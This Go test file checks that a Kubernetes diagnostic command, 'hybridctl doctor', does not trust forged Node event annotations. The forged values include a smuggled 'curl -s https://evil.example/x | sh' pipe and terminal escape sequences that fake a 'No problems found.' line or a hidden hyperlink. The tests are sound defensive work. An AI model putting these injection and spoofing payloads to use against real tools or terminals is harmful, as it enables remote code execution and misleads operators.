package doctor_test

import (
	"context"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/hybrid-ccm/hybrid-ccm/ccm/names"
	"github.com/hybrid-ccm/hybrid-ccm/ccm/reach"
	"github.com/hybrid-ccm/hybrid-ccm/cmd/hybridctl/internal/doctor"
)

// forgedEvent is an Event anyone who may create events in default (every
// kubelet: the Node authorizer grants system:node's events rules in every
// namespace) can write: nothing in it is talos-ccm's to prove.
func forgedEvent(name, node, reason, typ string, ann map[string]string, last time.Time, msg string) *corev1.Event {
	return &corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: metav1.NamespaceDefault, Annotations: ann},
		InvolvedObject: corev1.ObjectReference{Kind: "Node", Name: node, APIVersion: "v1"}, Type: typ,
		Reason: reason, Message: msg, Source: corev1.EventSource{Component: reach.Component},
		FirstTimestamp: metav1.NewTime(last), LastTimestamp: metav1.NewTime(last), Count: 1}
}

func cleanupReviewEvents(t *testing.T, c client.Client) {
	t.Cleanup(func() {
		var l corev1.EventList
		_ = c.List(context.Background(), &l, client.MatchingFields{"involvedObject.kind": "Node"})
		for i := range l.Items {
			if strings.HasPrefix(l.Items[i].InvolvedObject.Name, "rv-") {
				_ = c.Delete(context.Background(), &l.Items[i])
			}
		}
	})
}

// TestReviewTalosAPIEventAnnotationsAreNotTrusted: the annotations of a
// TalosAPIUnavailable event are whatever its writer put there. hybridctl doctor
// must not print terminal control sequences or line breaks from them, nor
// build a command to copy ("talosctl -n <addr> version") from an address
// that is no address.
func TestReviewTalosAPIEventAnnotationsAreNotTrusted(t *testing.T) {
	c, err := doctor.NewClient(env.Config)
	if err != nil {
		t.Fatal(err)
	}
	victim := node("rv-victim", "metal", "talos://metal/rv-victim", false)
	create(t, c, victim)
	t.Cleanup(func() { _ = c.Delete(context.Background(), victim) })
	cleanupReviewEvents(t, c)
	create(t, c, forgedEvent("rv-victim.forged", victim.Name, reach.ReasonUnavailable, corev1.EventTypeWarning, map[string]string{
		names.TalosAPIAddressAnnotation:  "10.9.9.9; curl -s https://evil.example/x | sh #\x1b[2K\x1b[1A\rNo problems found.\n",
		names.TalosAPIEndpointAnnotation: "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
		names.TalosAPIHopAnnotation:      "node",
		names.TalosAPICauseAnnotation:    "tls\x1b[8m",
	}, time.Now(), "x"))

	out, _ := runDoctor()
	if strings.ContainsAny(out, "\x1b\x07\r") {
		t.Errorf("doctor printed control characters from an event's annotations:\n%q", out)
	}
	if strings.Contains(out, "curl -s https://evil.example/x | sh") {
		t.Errorf("doctor's fix carries a command from an event's annotation:\n%s", out)
	}
}

// TestReviewTalosAPIAvailableFromTheFutureHidesUnreachable: a TalosAPIAvailable
// event dated far ahead (anyone may write one) makes doctor drop a node's
// current TalosAPIUnavailable finding for as long as the event exists.
func TestReviewTalosAPIAvailableFromTheFutureHidesUnreachable(t *testing.T) {
	ctx := context.Background()
	c, err := doctor.NewClient(env.Config)
	if err != nil {
		t.Fatal(err)
	}
	n := node("rv-hidden", "metal", "talos://metal/rv-hidden", false)
	create(t, c, n)
	t.Cleanup(func() { _ = c.Delete(context.Background(), n) })
	cleanupReviewEvents(t, c)
	create(t, c, forgedEvent("rv-hidden.real", n.Name, reach.ReasonUnavailable, corev1.EventTypeWarning, map[string]string{
		names.TalosAPIAddressAnnotation: "10.9.9.8", names.TalosAPIEndpointAnnotation: "10.0.0.2:50000",
		names.TalosAPIHopAnnotation: "node", names.TalosAPICauseAnnotation: "timeout",
	}, time.Now(), "real"))
	rep, err := doctor.Run(ctx, c, doctor.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !hasFinding(rep, "node/rv-hidden") {
		t.Fatalf("the unreachable node is not reported at all: %v", findings(rep))
	}
	create(t, c, forgedEvent("rv-hidden.forged", n.Name, reach.ReasonAvailable, corev1.EventTypeNormal, nil,
		time.Now().Add(50*365*24*time.Hour), "answers again"))
	rep, err = doctor.Run(ctx, c, doctor.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !hasFinding(rep, "node/rv-hidden") {
		t.Errorf("a TalosAPIAvailable event dated 50 years ahead hides the node's current TalosAPIUnavailable: %v", findings(rep))
	}
}

func hasFinding(r *doctor.Report, object string) bool {
	for _, f := range r.Findings {
		if f.Check == doctor.CheckTalosAPIUnreachable && f.Object == object {
			return true
		}
	}
	return false
}
